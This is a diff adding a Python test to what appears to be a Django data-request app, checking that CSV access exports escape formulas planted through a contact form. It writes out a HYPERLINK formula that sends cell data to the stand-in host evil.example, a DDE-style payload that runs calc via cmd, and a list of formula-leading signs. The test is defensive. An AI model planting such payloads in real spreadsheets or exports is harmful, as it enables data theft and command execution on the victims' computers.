@@ -1,5 +1,6 @@
 """The whole life of a request, through HTTP and the admin (as a requester and a DPO)."""
 
+import csv
 import datetime
 import io
 import json
@@ -412,3 +413,46 @@ def test_a_correction_with_nothing_filled_in_or_too_long_is_refused(people, dpo_
     assert "at most 128 characters" in too_long.content.decode()
     request.refresh_from_db()
     assert request.name == "Alice"
+
+
+def test_a_formula_planted_through_the_contact_form_is_text_in_the_victims_csv(
+    demo_policy, dpo_client, deliver, settings, tmp_path
+):
+    # Anyone can write a contact message naming someone else's address; it is that
+    # person's data, so it lands in their access export, which they open in a spreadsheet.
+    settings.EXPORT_ROOT = tmp_path / "exports"
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    name = "\uff20SUM(1+1)*cmd|' /C calc'!A0"  # a full-width "@", read as "@" by some
+    sent = Client().post("/contact/", {"name": name, "email": ALICE, "message": formula})
+    assert sent.status_code == HTTPStatus.SEE_OTHER
+    alice = Client()
+    request = submit_and_verify(alice, deliver, email=ALICE, name="Alice", kind="access")
+
+    with deliver():
+        dpo_client.post(ADMIN, {"action": "build_export", "_selected_action": [request.pk]})
+    download = alice.get(link_in_mail(mail.outbox[-1], "/requests/download/"))
+
+    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
+    sheets = {
+        path: list(csv.reader(io.StringIO(archive.read(path).decode())))
+        for path in archive.namelist()
+        if path.endswith(".csv")
+    }
+    assert "csv/contact-messages.csv" in sheets
+    header, *rows = sheets["csv/contact-messages.csv"]
+    (row,) = [dict(zip(header, row, strict=True)) for row in rows]
+    assert row["message"] == f"'{formula}"
+    assert row["name"] == f"'{name}"
+    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width
+    for path, cells in sheets.items():
+        for cell in (cell for line in cells for cell in line):
+            assert not cell.lstrip().startswith(signs), path
+    # The JSON is not a spreadsheet: it keeps what was sent, exactly.
+    (message,) = [
+        record["data"]
+        for record in json.loads(archive.read("data.json"))["records"]
+        if record["source"] == "Contact messages"
+    ]
+    assert (message["message"], message["name"]) == (formula, name)
+    # And the summary tells the requester why some cells start with an apostrophe.
+    assert "starts with an apostrophe" in archive.read("README.html").decode()
